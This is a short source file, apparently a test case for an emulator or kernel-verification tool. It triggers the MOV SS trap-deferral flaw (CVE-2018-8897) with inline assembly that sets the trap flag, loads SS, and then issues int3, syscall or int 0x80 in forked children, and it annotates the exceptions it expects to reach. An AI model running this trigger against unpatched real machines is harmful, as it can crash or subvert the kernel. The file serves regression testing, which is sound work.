/**
 * A trap held off by MOV SS is delivered behind the next instruction: INT3 or SYSCALL there took it into the kernel (CVE-2018-8897).
 *
 * @reaches exception 1 - at CPL 3
 * @reaches exception 13 1026 at CPL 3
 */
import { asm, syscall } from 'palindrome/intrinsics';

const ALL: u64 = 0xffffffffffffffffn;

function attack(): void {
  { // 1: mov ss; int3
    if (syscall(57n) === 0n) {
      asm("mov eax, ss\npushfq\nor qword ptr [rsp], 0x100\npopfq\nmov ss, ax\nint3\nnop", {}, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
  { // 2: mov ss; mov eax, 39; syscall
    if (syscall(57n) === 0n) {
      asm("mov eax, ss\npushfq\nor qword ptr [rsp], 0x100\npopfq\nmov ss, ax\nmov eax, 39\nsyscall\nnop", {}, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
  { // 3: mov ss; int 0x80
    if (syscall(57n) === 0n) {
      asm("mov eax, ss\npushfq\nor qword ptr [rsp], 0x100\npopfq\nmov ss, ax\nint 0x80\nnop", {}, 'rax');
      syscall(231n, 7n);
    }
    syscall(61n, ALL, 0n, 0n, 0n);
  }
}
attack();
syscall(231n, 0n);
